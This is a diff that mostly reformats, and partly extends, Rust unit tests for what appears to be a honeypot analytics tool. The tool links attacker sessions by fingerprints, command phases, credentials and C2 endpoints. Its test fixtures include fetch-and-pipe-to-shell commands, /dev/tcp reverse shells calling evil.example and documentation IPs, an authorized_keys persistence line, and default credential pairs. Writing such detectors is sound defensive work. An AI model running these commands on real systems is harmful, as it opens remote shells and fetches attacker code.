-        assert_eq!(high_tier(&with(&["ja3:a", "hassh:a"], &[], &["c2"]), &with(&["ja3:a", "hassh:b"], &[], &["c2"])), 1.0);
-        assert_eq!(high_tier(&with(&["ja3:a"], &[], &["c2"]), &with(&["ja3:b"], &[], &["c2"])), 0.0);
+        assert_eq!(
+            high_tier(
+                &with(&["ja3:a", "hassh:a"], &[], &["c2"]),
+                &with(&["ja3:b", "hassh:b"], &[], &["c2"])
+            ),
+            0.0
+        );
+        assert_eq!(
+            high_tier(
+                &with(&["ja3:a", "hassh:a"], &["p"], &[]),
+                &with(&["ja3:b", "hassh:b"], &["p"], &[])
+            ),
+            0.0
+        );
+        assert_eq!(
+            high_tier(&with(&[], &[], &["c2"]), &with(&[], &[], &["c2"])),
+            1.0
+        );
+        assert_eq!(
+            high_tier(&with(&["ja3:a"], &[], &["c2"]), &with(&[], &[], &["c2"])),
+            1.0
+        );
+        assert_eq!(
+            high_tier(
+                &with(&["ja3:a", "hassh:a"], &[], &["c2"]),
+                &with(&["ja3:a", "hassh:b"], &[], &["c2"])
+            ),
+            1.0
+        );
+        assert_eq!(
+            high_tier(
+                &with(&["ja3:a"], &[], &["c2"]),
+                &with(&["ja3:b"], &[], &["c2"])
+            ),
+            0.0
+        );
         assert_eq!(high_tier(&with(&[], &[], &[]), &with(&[], &[], &[])), 0.0);
         // medium
         let cmds = |m: &[(&str, &[&str])]| Observation {
@@ -626,25 +942,67 @@ mod tests {
         };
         let d = cmds(&[("discovery", &["ls", "id", "uname -a"])]);
         assert_eq!(medium_tier(&d, &d), 1.0);
-        assert_eq!(medium_tier(&cmds(&[("discovery", &["ls", "id", "uname -a", "whoami"])]), &cmds(&[("discovery", &["ls", "id"])])), 0.5);
-        assert_eq!(medium_tier(&cmds(&[("discovery", &["ls"]), ("exploitation", &["x"])]), &cmds(&[("discovery", &["id"]), ("exploitation", &["x"])])), 1.0);
-        assert_eq!(medium_tier(&cmds(&[("discovery", &["ls"])]), &cmds(&[("exploitation", &["ls"])])), 0.0);
-        assert_eq!(medium_tier(&cmds(&[("discovery", &["ls"])]), &cmds(&[("discovery", &["id"])])), 0.0);
+        assert_eq!(
+            medium_tier(
+                &cmds(&[("discovery", &["ls", "id", "uname -a", "whoami"])]),
+                &cmds(&[("discovery", &["ls", "id"])])
+            ),
+            0.5
+        );
+        assert_eq!(
+            medium_tier(
+                &cmds(&[("discovery", &["ls"]), ("exploitation", &["x"])]),
+                &cmds(&[("discovery", &["id"]), ("exploitation", &["x"])])
+            ),
+            1.0
+        );
+        assert_eq!(
+            medium_tier(
+                &cmds(&[("discovery", &["ls"])]),
+                &cmds(&[("exploitation", &["ls"])])
+            ),
+            0.0
+        );
+        assert_eq!(
+            medium_tier(
+                &cmds(&[("discovery", &["ls"])]),
+                &cmds(&[("discovery", &["id"])])
+            ),
+            0.0
+        );
         assert_eq!(medium_tier(&cmds(&[]), &cmds(&[])), 0.0);
         // low
-        let creds = |c: &[(&str, &str)]| Observation { credentials: c.iter().map(|(u, p)| (u.to_string(), p.to_string())).collect(), ..Default::default() };
+        let creds = |c: &[(&str, &str)]| Observation {
+            credentials: c
+                .iter()
+                .map(|(u, p)| (u.to_string(), p.to_string()))
+                .collect(),
+            ..Default::default()
+        };
         let rt = creds(&[("root", "toor"), ("admin", "admin")]);
         assert_eq!(low_tier(&rt, &rt), 1.0);
-        assert!((low_tier(&rt, &creds(&[("root", "toor"), ("user", "user")])) - 1.0 / 3.0).abs() < 1e-12);
+        assert!(
+            (low_tier(&rt, &creds(&[("root", "toor"), ("user", "user")])) - 1.0 / 3.0).abs()
+                < 1e-12
+        );
         assert_eq!(low_tier(&rt, &creds(&[])), 0.0);
         // very low
-        let asn = |a: Option<i64>| Observation { asn: a, ..Default::default() };
+        let asn = |a: Option<i64>| Observation {
+            asn: a,
+            ..Default::default()
+        };
         assert_eq!(very_low_tier(&asn(Some(64500)), &asn(Some(64500))), 1.0);
         assert_eq!(very_low_tier(&asn(Some(64500)), &asn(Some(64501))), 0.0);
         assert_eq!(very_low_tier(&asn(None), &asn(None)), 0.0);
         // combined
-        let full = Observation { asn: Some(1), ..cmds(&[("discovery", &["ls", "id"])]) };
-        let weak = Observation { credentials: rt.credentials.clone(), ..full.clone() };
+        let full = Observation {
+            asn: Some(1),
+            ..cmds(&[("discovery", &["ls", "id"])])
+        };
+        let weak = Observation {
+            credentials: rt.credentials.clone(),
+            ..full.clone()
+        };
         assert!(identity_similarity(&obs(&["ja3:x"]), &obs(&["ja3:x"])) >= EDGE_THRESHOLD);
         let m = identity_similarity(&d, &d);
         assert!(m > 0.0 && m < EDGE_THRESHOLD);
@@ -652,30 +1010,54 @@ mod tests {
         assert!(l > 0.0 && l < EDGE_THRESHOLD);
         let a = identity_similarity(&asn(Some(1)), &asn(Some(1)));
         assert!(a > 0.0 && a < EDGE_THRESHOLD);
-        assert!(identity_similarity(&weak, &weak) < EDGE_THRESHOLD, "all weak tiers stay below the threshold");
-        let hm = Observation { fingerprints: set(&["ja3:x"]), ..d.clone() };
+        assert!(
+            identity_similarity(&weak, &weak) < EDGE_THRESHOLD,
+            "all weak tiers stay below the threshold"
+        );
+        let hm = Observation {
+            fingerprints: set(&["ja3:x"]),
+            ..d.clone()
+        };
         assert!(identity_similarity(&hm, &hm) >= EDGE_THRESHOLD);
         assert_eq!(identity_similarity(&obs(&[]), &obs(&[])), 0.0);
         // our addition: a shared rhythm plus shared commands links, a rhythm alone does not
-        let kd = |o: &Observation| Observation { kd_simhash: Some(0xABCD_1234_ABCD_1234), ..o.clone() };
-        assert!(identity_similarity(&kd(&Observation::default()), &kd(&Observation::default())) < EDGE_THRESHOLD);
+        let kd = |o: &Observation| Observation {
+            kd_simhash: Some(0xABCD_1234_ABCD_1234),
+            ..o.clone()
+        };
+        assert!(
+            identity_similarity(&kd(&Observation::default()), &kd(&Observation::default()))
+                < EDGE_THRESHOLD
+        );
         assert!(identity_similarity(&kd(&d), &kd(&d)) >= EDGE_THRESHOLD);
     }
 
     #[test]
     fn link_reasons_explain_the_similarity() {
         let d = Observation {
-            commands_by_phase: [("discovery".to_string(), set(&["ls", "id", "uname -a"])), ("exploitation".to_string(), set(&["x"]))]
-                .into_iter()
-                .collect(),
-            credentials: [("root".to_string(), "toor".to_string()), ("pi".to_string(), "pi".to_string())].into_iter().collect(),
+            commands_by_phase: [
+                ("discovery".to_string(), set(&["ls", "id", "uname -a"])),
+                ("exploitation".to_string(), set(&["x"])),
+            ]
+            .into_iter()
+            .collect(),
+            credentials: [
+                ("root".to_string(), "toor".to_string()),
+                ("pi".to_string(), "pi".to_string()),
+            ]
+            .into_iter()
+            .collect(),
             asn: Some(64500),
             kd_simhash: Some(0xABCD_1234_ABCD_1234),
             ..Default::default()
         };
         let e = Observation {
-            commands_by_phase: [("discovery".to_string(), set(&["ls", "id"]))].into_iter().collect(),
-            credentials: [("root".to_string(), "toor".to_string())].into_iter().collect(),
+            commands_by_phase: [("discovery".to_string(), set(&["ls", "id"]))]
+                .into_iter()
+                .collect(),
+            credentials: [("root".to_string(), "toor".to_string())]
+                .into_iter()
+                .collect(),
             asn: Some(64500),
             kd_simhash: Some(0xABCD_1234_ABCD_1237),
             ..Default::default()
@@ -688,8 +1070,14 @@ mod tests {
         };
         let pairs = [
             (obs(&["hassh:h1", "ja3:j"]), obs(&["hassh:h1", "ja3:k"])),
-            (shared(&[], &["p1"], &["c2.example:443"], &d), shared(&[], &["p1"], &["c2.example:443"], &e)),
-            (shared(&["ja3:a"], &["p1"], &[], &d), shared(&["ja3:b"], &["p1"], &[], &e)), // vetoed
+            (
+                shared(&[], &["p1"], &["c2.example:443"], &d),
+                shared(&[], &["p1"], &["c2.example:443"], &e),
+            ),
+            (
+                shared(&["ja3:a"], &["p1"], &[], &d),
+                shared(&["ja3:b"], &["p1"], &[], &e),
+            ), // vetoed
             (d.clone(), e.clone()),
             (obs(&[]), obs(&[])),
         ];
@@ -702,19 +1090,58 @@ mod tests {
                 assert_eq!(*w, r.weight, "one weight per tier");
             }
             let total: f64 = by_tier.values().sum();
-            assert!((total - identity_similarity(a, b)).abs() < 1e-12, "{reasons:?}");
+            assert!(
+                (total - identity_similarity(a, b)).abs() < 1e-12,
+                "{reasons:?}"
+            );
             assert_eq!(link_reasons(b, a).len(), reasons.len(), "symmetric");
         }
         let r = link_reasons(&pairs[0].0, &pairs[0].1);
-        assert_eq!(r, vec![LinkReason { tier: "high", kind: "hassh".into(), value: "h1".into(), weight: 1.0 }]);
-        let kinds = |i: usize| link_reasons(&pairs[i].0, &pairs[i].1).into_iter().map(|r| r.kind).collect::<Vec<_>>();
-        assert_eq!(kinds(1), ["payload_hash", "c2", "commands:discovery", "credentials", "asn", "kd_simhash"]);
-        assert_eq!(kinds(2), ["commands:discovery", "credentials", "asn", "kd_simhash"], "the veto leaves the high tier out");
-        let cmds = link_reasons(&d, &e).into_iter().find(|r| r.tier == "medium").unwrap();
-        assert_eq!((cmds.value.as_str(), cmds.weight), ("id\nls", MEDIUM_WEIGHT * 2.0 / 3.0));
+        assert_eq!(
+            r,
+            vec![LinkReason {
+                tier: "high",
+                kind: "hassh".into(),
+                value: "h1".into(),
+                weight: 1.0
+            }]
+        );
+        let kinds = |i: usize| {
+            link_reasons(&pairs[i].0, &pairs[i].1)
+                .into_iter()
+                .map(|r| r.kind)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            kinds(1),
+            [
+                "payload_hash",
+                "c2",
+                "commands:discovery",
+                "credentials",
+                "asn",
+                "kd_simhash"
+            ]
+        );
+        assert_eq!(
+            kinds(2),
+            ["commands:discovery", "credentials", "asn", "kd_simhash"],
+            "the veto leaves the high tier out"
+        );
+        let cmds = link_reasons(&d, &e)
+            .into_iter()
+            .find(|r| r.tier == "medium")
+            .unwrap();
+        assert_eq!(
+            (cmds.value.as_str(), cmds.weight),
+            ("id\nls", MEDIUM_WEIGHT * 2.0 / 3.0)
+        );
         // a value no real signal is as long as is bounded
         let long = "x".repeat(5000);
-        let big = link_reasons(&obs(&[&format!("ja3:{long}")]), &obs(&[&format!("ja3:{long}")]));
+        let big = link_reasons(
+            &obs(&[&format!("ja3:{long}")]),
+            &obs(&[&format!("ja3:{long}")]),
+        );
         assert!(big[0].value.len() <= 256, "{}", big[0].value.len());
     }
 
@@ -726,60 +1153,134 @@ mod tests {
         assert_eq!(keystroke_weight(Some(H), None), 0.0);
         assert_eq!(keystroke_weight(Some(H), Some(H ^ 0xf)), 0.5);
         assert_eq!(keystroke_weight(Some(H), Some(H ^ 0xff)), 0.0);
-        let rhythm = CampaignView { kd_simhash: Some(H), ..Default::default() };
+        let rhythm = CampaignView {
+            kd_simhash: Some(H),
+            ..Default::default()
+        };
         assert!(campaign_similarity(&rhythm, &rhythm) < CAMPAIGN_EDGE_THRESHOLD);
-        let both = CampaignView { windows: vec![(0.0, 100.0)], ..rhythm.clone() };
+        let both = CampaignView {
+            windows: vec![(0.0, 100.0)],
+            ..rhythm.clone()
+        };
         assert!(campaign_similarity(&both, &both) >= CAMPAIGN_EDGE_THRESHOLD);
-        let window_only = CampaignView { windows: vec![(0.0, 100.0)], ..Default::default() };
+        let window_only = CampaignView {
+            windows: vec![(0.0, 100.0)],
+            ..Default::default()
+        };
         assert!(campaign_similarity(&window_only, &window_only) < CAMPAIGN_EDGE_THRESHOLD);
     }
 
     fn phases(first: &[(&str, &str, f64)], last: &[(&str, &str, f64)]) -> CampaignView {
-        let m = |v: &[(&str, &str, f64)]| v.iter().map(|(d, p, t)| (d.to_string(), (p.to_string(), *t))).collect();
-        CampaignView { first_phase: m(first), last_phase: m(last), ..Default::default() }
+        let m = |v: &[(&str, &str, f64)]| {
+            v.iter()
+                .map(|(d, p, t)| (d.to_string(), (p.to_string(), *t)))
+                .collect()
+        };
+        CampaignView {
+            first_phase: m(first),
+            last_phase: m(last),
+            ..Default::default()
+        }
     }
 
     // cases 7.7
     #[test]
     fn campaign_rules() {
         let a = phases(&[], &[("d1", "command_and_control", 1000.0)]);
-        assert_eq!(phase_handoff(&a, &phases(&[("d1", "discovery", 1600.0)], &[])), 1.0);
+        assert_eq!(
+            phase_handoff(&a, &phases(&[("d1", "discovery", 1600.0)], &[])),
+            1.0
+        );
         let p = phases(&[], &[("d1", "persistence", 5000.0)]);
         let l = phases(&[("d1", "lateral_movement", 5060.0)], &[]);
         assert_eq!((phase_handoff(&p, &l), phase_handoff(&l, &p)), (1.0, 1.0));
-        assert_eq!(phase_handoff(&a, &phases(&[("d2", "discovery", 1600.0)], &[])), 0.0);
-        assert_eq!(phase_handoff(&a, &phases(&[("d1", "exploitation", 1600.0)], &[])), 0.0);
-        assert_eq!(phase_handoff(&a, &phases(&[("d1", "discovery", 1000.0 + 90_000.0)], &[])), 0.0);
-        assert_eq!(phase_handoff(&a, &phases(&[("d1", "discovery", 900.0)], &[])), 0.0);
+        assert_eq!(
+            phase_handoff(&a, &phases(&[("d2", "discovery", 1600.0)], &[])),
+            0.0
+        );
+        assert_eq!(
+            phase_handoff(&a, &phases(&[("d1", "exploitation", 1600.0)], &[])),
+            0.0
+        );
+        assert_eq!(
+            phase_handoff(&a, &phases(&[("d1", "discovery", 1000.0 + 90_000.0)], &[])),
+            0.0
+        );
+        assert_eq!(
+            phase_handoff(&a, &phases(&[("d1", "discovery", 900.0)], &[])),
+            0.0
+        );
         assert_eq!(temporal_overlap(&[(0.0, 100.0)], &[(0.0, 100.0)]), 1.0);
         assert_eq!(temporal_overlap(&[(0.0, 100.0)], &[(50.0, 150.0)]), 0.5);
         assert_eq!(temporal_overlap(&[(0.0, 100.0)], &[(200.0, 300.0)]), 0.0);
         assert_eq!(temporal_overlap(&[], &[(0.0, 1.0)]), 0.0);
-        assert_eq!(temporal_overlap(&[(1000.0, 1100.0)], &[(1050.0, 1150.0)]), 0.5);
-        assert!(campaign_similarity(&a, &phases(&[("d1", "discovery", 1600.0)], &[])) >= CAMPAIGN_EDGE_THRESHOLD);
-        let infra = CampaignView { infrastructure: set(&["c2.example:443"]), ..Default::default() };
+        assert_eq!(
+            temporal_overlap(&[(1000.0, 1100.0)], &[(1050.0, 1150.0)]),
+            0.5
+        );
+        assert!(
+            campaign_similarity(&a, &phases(&[("d1", "discovery", 1600.0)], &[]))
+                >= CAMPAIGN_EDGE_THRESHOLD
+        );
+        let infra = CampaignView {
+            infrastructure: set(&["c2.example:443"]),
+            ..Default::default()
+        };
         assert!(campaign_similarity(&infra, &infra) >= CAMPAIGN_EDGE_THRESHOLD);
-        let cohort = CampaignView { cohort: set(&["asn:1", "tool:nmap", "decky:d1"]), ..Default::default() };
+        let cohort = CampaignView {
+            cohort: set(&["asn:1", "tool:nmap", "decky:d1"]),
+            ..Default::default()
+        };
         assert!(campaign_similarity(&cohort, &cohort) < CAMPAIGN_EDGE_THRESHOLD);
     }
 
     #[test]
     fn from_json() {
-        let o = Observation::from_json(&json!({"fingerprints": ["hassh:h"], "commands": {"discovery": ["ls"]},
-            "credentials": [["root", "x"], ["bad"]], "asn": 64500, "kd": "abcd1234abcd1234"}));
-        assert_eq!((o.fingerprints.len(), o.commands_by_phase["discovery"].len(), o.credentials.len(), o.asn), (1, 1, 1, Some(64500)));
+        let o = Observation::from_json(
+            &json!({"fingerprints": ["hassh:h"], "commands": {"discovery": ["ls"]},
+            "credentials": [["root", "x"], ["bad"]], "asn": 64500, "kd": "abcd1234abcd1234"}),
+        );
+        assert_eq!(
+            (
+                o.fingerprints.len(),
+                o.commands_by_phase["discovery"].len(),
+                o.credentials.len(),
+                o.asn
+            ),
+            (1, 1, 1, Some(64500))
+        );
         assert_eq!(o.kd_simhash, Some(0xABCD_1234_ABCD_1234));
-        assert_eq!(Observation::from_json(&json!({"kd": "zz"})).kd_simhash, None);
-        let c = CampaignView::from_json(&json!({"first": {"d1": ["discovery", 1600.0]}, "windows": [[0, 100]], "cohort": ["asn:1"]}));
-        assert_eq!((c.first_phase["d1"].0.as_str(), c.windows.clone(), c.cohort.len()), ("discovery", vec![(0.0, 100.0)], 1));
+        assert_eq!(
+            Observation::from_json(&json!({"kd": "zz"})).kd_simhash,
+            None
+        );
+        let c = CampaignView::from_json(
+            &json!({"first": {"d1": ["discovery", 1600.0]}, "windows": [[0, 100]], "cohort": ["asn:1"]}),
+        );
+        assert_eq!(
+            (
+                c.first_phase["d1"].0.as_str(),
+                c.windows.clone(),
+                c.cohort.len()
+            ),
+            ("discovery", vec![(0.0, 100.0)], 1)
+        );
     }
 
     #[test]
     fn c2_endpoints_of_commands() {
-        assert_eq!(c2_endpoints("wget http://203.0.113.9/x.sh -O /tmp/x.sh"), vec!["203.0.113.9:80"]);
-        assert_eq!(c2_endpoints("curl -s HTTPS://Evil.Example:8443/a | sh; curl https://evil.example/b"),
-                   vec!["evil.example:443", "evil.example:8443"]);
-        assert_eq!(c2_endpoints("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), vec!["198.51.100.7:4444"]);
+        assert_eq!(
+            c2_endpoints("wget http://203.0.113.9/x.sh -O /tmp/x.sh"),
+            vec!["203.0.113.9:80"]
+        );
+        assert_eq!(
+            c2_endpoints("curl -s HTTPS://Evil.Example:8443/a | sh; curl https://evil.example/b"),
+            vec!["evil.example:443", "evil.example:8443"]
+        );
+        assert_eq!(
+            c2_endpoints("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
+            vec!["198.51.100.7:4444"]
+        );
         assert_eq!(c2_endpoints("tftp://10.0.0.1/boot"), vec!["10.0.0.1:69"]);
         assert!(c2_endpoints("uname -a").is_empty());
     }
@@ -788,9 +1289,18 @@ mod tests {
     fn command_phases() {
         assert_eq!(command_phase("uname -a"), Some("discovery"));
         assert_eq!(command_phase("cat /etc/passwd"), Some("discovery"));
-        assert_eq!(command_phase("echo key >> ~/.ssh/authorized_keys"), Some("persistence"));
-        assert_eq!(command_phase("wget http://x/y.sh -O- | sh"), Some("command_and_control"));
-        assert_eq!(command_phase("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"), Some("command_and_control"));
+        assert_eq!(
+            command_phase("echo key >> ~/.ssh/authorized_keys"),
+            Some("persistence")
+        );
+        assert_eq!(
+            command_phase("wget http://x/y.sh -O- | sh"),
+            Some("command_and_control")
+        );
+        assert_eq!(
+            command_phase("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
+            Some("command_and_control")
+        );
         assert_eq!(command_phase("ssh root@10.0.0.7"), Some("lateral_movement"));
         assert_eq!(command_phase("echo hello"), None);
     }
@@ -799,11 +1309,27 @@ mod tests {
     fn previous_groups_survive_a_full_pass() {
         // I1 had a, b, c; now a, b are component x and c is component y: x keeps I1,
         // y gets a new id. I2 (d) and I3 (e, f) now form component z: z keeps I3, I2 merges.
-        let r = keep_previous_groups([("x", "I1"), ("x", "I1"), ("y", "I1"), ("z", "I2"), ("z", "I3"), ("z", "I3")]);
-        assert_eq!(r, vec![("I1", "x", true), ("I2", "z", false), ("I3", "z", true)]);
+        let r = keep_previous_groups([
+            ("x", "I1"),
+            ("x", "I1"),
+            ("y", "I1"),
+            ("z", "I2"),
+            ("z", "I3"),
+            ("z", "I3"),
+        ]);
+        assert_eq!(
+            r,
+            vec![("I1", "x", true), ("I2", "z", false), ("I3", "z", true)]
+        );
         // ties: the smallest component claims, the smallest id is kept
-        assert_eq!(keep_previous_groups([("b", "I1"), ("a", "I1")]), vec![("I1", "a", true)]);
-        assert_eq!(keep_previous_groups([("a", "I2"), ("a", "I1")]), vec![("I1", "a", true), ("I2", "a", false)]);
+        assert_eq!(
+            keep_previous_groups([("b", "I1"), ("a", "I1")]),
+            vec![("I1", "a", true)]
+        );
+        assert_eq!(
+            keep_previous_groups([("a", "I2"), ("a", "I1")]),
+            vec![("I1", "a", true), ("I2", "a", false)]
+        );
     }
 
     // cases 7.6
@@ -812,7 +1338,10 @@ mod tests {
         let c = connected_components([("a", "b"), ("c", "c")]);
         assert_eq!((c["a"], c["b"], c["c"]), ("a", "a", "c"));
         let c = connected_components([("b", "c"), ("a", "c")]);
-        assert!(["a", "b", "c"].iter().all(|l| c[l] == "a"), "transitive, smallest label");
+        assert!(
+            ["a", "b", "c"].iter().all(|l| c[l] == "a"),
+            "transitive, smallest label"
+        );
         let c2 = connected_components([("a", "c"), ("b", "c")]);
         assert_eq!(c, c2, "order-independent");
         assert!(connected_components(std::iter::empty()).is_empty());
